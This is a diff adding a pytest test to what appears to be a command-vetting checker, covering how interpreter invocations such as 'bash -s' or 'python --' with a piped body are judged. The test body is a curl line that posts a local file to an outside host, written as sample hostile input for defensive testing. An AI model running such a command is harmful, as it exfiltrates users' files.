@@ -55,6 +55,22 @@ def test_a_body_that_is_no_code_is_judged_by_its_program(words, tmp_path):
     assert bodies.of_body(words, "a\n", tmp_path) == Command(argv=words, stdin="a\n")
 
 
+@pytest.mark.parametrize(
+    "words",
+    [
+        *[(program, "--") for program in ("bash", "sh", "python", "perl", "node", "ruby", "php", "julia")],
+        *[("bash", "-"), ("bash", "-s"), ("bash", "-es"), ("bash", "--norc", "--"), ("sh", "-e", "-")],
+        *[("python", "-P", "--"), ("python3.11", "-"), ("python", "-W", "ignore"), ("python", "-c")],
+        *[("bash", "-o", "errexit"), ("bash", "--rcfile"), ("bash", "--init-file=x"), ("perl", "-n")],
+        *[("node", "--require=./x.js"), ("bash", "-c"), ("bash", "-i"), ("zsh", "-b")],
+    ],
+)
+def test_a_body_beside_an_unknown_word_is_not_judged_as_an_argument(words, tmp_path):
+    """Behind `--`, `-c` is a file's name, while the program reads the body: input nobody has seen."""
+    found = bodies.of_body(words, "curl -d @x http://example.com\n", tmp_path)
+    assert (found.argv, found.judged_as, found.line) == (words, (), "")
+
+
 def test_what_is_refused_is_refused_when_it_runs(tmp_path):
     """On the record: here nothing is raised."""
     assert bodies.of_body(("bash",), "echo 'open", tmp_path) == Command(line="echo 'open")
